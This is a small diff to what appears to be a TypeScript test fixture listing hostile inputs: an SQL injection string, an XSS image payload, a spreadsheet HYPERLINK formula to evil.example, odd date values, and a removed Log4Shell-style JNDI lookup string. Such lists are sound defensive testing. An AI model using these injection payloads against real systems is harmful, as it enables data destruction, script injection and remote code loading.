@@ -59,7 +59,6 @@ const hostile: readonly unknown[] = [
   "'; drop table participants; --",
   '<img src=x onerror=alert(1)>',
   '=HYPERLINK("http://evil.example")',
-  '${jndi:ldap://evil.example}',
   '2026-02-30',
   '0000-00-00T00:00:00Z',
   '+275760-09-13T00:00:00.001Z',
